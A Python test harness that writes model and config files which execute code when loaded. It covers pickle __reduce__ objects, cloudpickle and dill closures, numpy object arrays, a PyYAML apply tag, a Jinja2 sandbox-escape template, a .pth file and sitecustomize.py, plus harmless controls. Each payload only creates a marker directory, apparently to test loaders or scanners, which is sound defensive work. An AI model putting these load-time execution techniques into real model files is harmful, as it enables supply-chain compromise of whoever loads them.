"""Files that run code when they are loaded, as published loaders load them.

`write FOLDER RAN` writes a directory for each loader, and prints their names; `load LOADER FOLDER` loads one. What it
runs makes a directory below RAN.
"""

import importlib.util
import json
import os
import pickle
import site
import subprocess
import sys

import cloudpickle
import dill
import jinja2
import joblib
import numpy
import yaml

class Payload:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (self.path,)


def save(path, data):
    with open(path, "wb" if isinstance(data, bytes) else "w") as stream:
        stream.write(data)


def pickled(protocol, load=pickle.load):
    return ("model.pkl", lambda path, ran: save(path, pickle.dumps(Payload(ran), protocol)), opened(load))


def opened(load):
    def load_file(path):
        with open(path, "rb") as stream:
            load(stream)

    return load_file


def by_value(module):
    """A function that is not of any module, which its pickle carries with it and calls."""

    def write(path, ran):
        class Called:
            def __reduce__(self):
                return (lambda: __import__("os").mkdir(ran)), ()

        save(path, module.dumps(Called()))

    return ("model.bin", write, opened(module.load))


def array(name, save_array):
    def write(path, ran):
        save_array(path, numpy.array([Payload(ran)], dtype=object))

    def load(path):
        loaded = numpy.load(path, allow_pickle=True)
        return [loaded[key] for key in loaded] if hasattr(loaded, "keys") else loaded

    return (name, write, load)


def template(name, wrap, unwrap):
    text = "{{ cycler.__init__.__globals__.os.mkdir('%s') }}"

    def load(path):
        with open(path) as stream:
            jinja2.Template(unwrap(stream.read())).render(messages=[])

    return (name, lambda path, ran: save(path, wrap(text % ran)), load)


def imported(path):
    spec = importlib.util.spec_from_file_location("custom", path)
    spec.loader.exec_module(importlib.util.module_from_spec(spec))


def started_beside(path):
    environment = {**os.environ, "PYTHONPATH": os.path.dirname(path)}
    subprocess.run([sys.executable, "-c", "pass"], env=environment, check=True)


def program(path, ran):
    save(path, f"import os; os.mkdir({ran!r})\n")


LOADERS = {
    **{f"pickle, protocol {protocol}": pickled(protocol) for protocol in range(6)},
    "pickle in Python": pickled(4, lambda stream: pickle._Unpickler(stream).load()),
    "cloudpickle": by_value(cloudpickle),
    "dill": by_value(dill),
    "joblib": ("model.joblib", lambda path, ran: joblib.dump(Payload(ran), path), joblib.load),
    "joblib, compressed": ("model.joblib.z", lambda path, ran: joblib.dump(Payload(ran), path, compress=3), joblib.load),
    "numpy": array("embeddings.npy", numpy.save),
    "numpy, archive": array("embeddings.npz", numpy.savez),
    "PyYAML": (
        "config.yaml",
        lambda path, ran: save(path, f"hooks: !!python/object/apply:os.mkdir [{ran}]\n"),
        opened(yaml.unsafe_load),
    ),
    "jinja2": template("chat_template.jinja", str, str),
    "jinja2, in JSON": template(
        "tokenizer_config.json",
        lambda text: json.dumps({"chat_template": text}),
        lambda text: json.loads(text)["chat_template"],
    ),
    "import": ("modeling_custom.py", program, imported),
    "site": ("model.pth", program, lambda path: site.addsitedir(os.path.dirname(path))),
    "sitecustomize": ("sitecustomize.py", program, started_beside),
}

# The same loaders with nothing to run: that a loader ran something is no constant.
HARMLESS = {
    "harmless pickle": ("model.pkl", lambda path, _: save(path, pickle.dumps({"a": 1})), opened(pickle.load)),
    "harmless YAML": ("config.yaml", lambda path, _: save(path, "a: 1\n"), opened(yaml.unsafe_load)),
    "harmless template": template("chat_template.jinja", lambda _: "{{ messages }}", str),
}


def main(command, *arguments):
    loaders = {**LOADERS, **HARMLESS}
    if command == "write":
        folder, ran = arguments
        for index, (name, write, _) in enumerate(loaders.values()):
            directory = os.path.join(folder, str(index))
            os.makedirs(directory)
            write(os.path.join(directory, name), os.path.join(ran, str(index)))
        print(json.dumps(list(loaders)))
    else:
        loader, folder = arguments
        name, _, load = loaders[loader]
        load(os.path.join(folder, name))


main(*sys.argv[1:])
